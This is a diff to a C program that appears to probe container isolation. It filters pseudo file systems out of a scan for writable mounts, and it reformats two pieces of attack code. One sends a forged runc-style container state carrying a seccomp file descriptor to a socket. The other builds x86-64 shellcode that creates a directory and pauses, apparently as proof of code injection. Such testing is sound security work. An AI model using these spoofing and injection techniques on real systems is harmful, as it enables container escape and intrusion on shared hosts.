@@ -162,17 +162,32 @@ static void unescape(char *s)
         *o = '\0';
 }
 
-/* Every mount point whose mount and superblock are not read-only. */
+/* The kernel's own file systems: nothing can be dropped there, and a chmod
+ * would reach kernel objects, not a place of ours. */
+static bool pseudo_fs(const char *type)
+{
+        static const char *const types[] = {
+                "proc",       "sysfs",   "cgroup",  "cgroup2", "devpts",   "mqueue", "bpf",
+                "securityfs", "debugfs", "tracefs", "fusectl", "configfs", "pstore", NULL
+        };
+        for (const char *const *t = types; *t; t++)
+                if (strcmp(*t, type) == 0)
+                        return true;
+        return false;
+}
+
+/* Every directory mounted with neither the mount nor its superblock read-only,
+ * on a file system that can hold files. */
 static void writable_mounts(struct paths *dirs)
 {
-        char line[4096], point[4096], opts[1024], super[1024];
+        char line[4096], point[4096], opts[1024], type[256], super[1024];
         FILE *f = fopen("/proc/self/mountinfo", "re");
         if (!f)
                 return;
         while (fgets(line, sizeof(line), f)) {
                 char *sep = strstr(line, " - ");
                 if (!sep || sscanf(line, "%*s %*s %*s %*s %4095s %1023s", point, opts) != 2 ||
-                    sscanf(sep + 3, "%*s %*s %1023s", super) != 1)
+                    sscanf(sep + 3, "%255s %*s %1023s", type, super) != 2 || pseudo_fs(type))
                         continue;
                 bool ro = false;
                 char *save = NULL;
@@ -183,7 +198,9 @@ static void writable_mounts(struct paths *dirs)
                 if (ro)
                         continue;
                 unescape(point);
-                add_path(dirs, point);
+                struct stat st;
+                if (lstat(point, &st) == 0 && S_ISDIR(st.st_mode))
+                        add_path(dirs, point);
         }
         (void)fclose(f);
 }
@@ -233,10 +250,11 @@ static int connect_to(const char *path, int *ret_errno)
 /* A runc-style state naming another container, with an fd of ours (a pipe's end). */
 static void send_forged(int fd, const char *path)
 {
-        static const char state[] = "{\"ociVersion\":\"1.0.2\",\"fds\":[\"seccompFd\"],\"pid\":1,\"metadata\":\"" FORGED_META
-                                    "\",\"state\":{\"ociVersion\":\"1.0.2\",\"id\":\"" FORGED_META
-                                    "\",\"status\":\"running\",\"pid\":1,\"bundle\":\"/forged\","
-                                    "\"annotations\":{\"forged\":\"yes\"}}}";
+        static const char state[] =
+                "{\"ociVersion\":\"1.0.2\",\"fds\":[\"seccompFd\"],\"pid\":1,\"metadata\":\"" FORGED_META
+                "\",\"state\":{\"ociVersion\":\"1.0.2\",\"id\":\"" FORGED_META
+                "\",\"status\":\"running\",\"pid\":1,\"bundle\":\"/forged\","
+                "\"annotations\":{\"forged\":\"yes\"}}}";
         int p[2];
         char eb[32];
         if (pipe2(p, O_CLOEXEC) < 0) {
@@ -494,9 +512,9 @@ static int blocked_in(int pid, long *ret_nr, unsigned long *ret_arg0, unsigned l
 static size_t shellcode(uint8_t *code, size_t size, const char *dir)
 {
         static const uint8_t head[] = { 0xeb, 0x00, 0x48, 0x8d, 0x3d, 0, 0, 0, 0 };
-        static const uint8_t body[] = { 0xbe, 0xed, 0x01, 0x00, 0x00, 0xb8, SYS_mkdir, 0x00, 0x00, 0x00, 0x0f,
-                                        0x05, 0x48, 0x89, 0xc7, 0xb8, SYS_pause, 0x00, 0x00, 0x00, 0x0f, 0x05,
-                                        0xeb, 0xf7 };
+        static const uint8_t body[] = { 0xbe,      0xed, 0x01, 0x00, 0x00, 0xb8, SYS_mkdir, 0x00,
+                                        0x00,      0x00, 0x0f, 0x05, 0x48, 0x89, 0xc7,      0xb8,
+                                        SYS_pause, 0x00, 0x00, 0x00, 0x0f, 0x05, 0xeb,      0xf7 };
         size_t len = sizeof(head) + sizeof(body) + strlen(dir) + 1;
         if (len > size)
                 return 0;
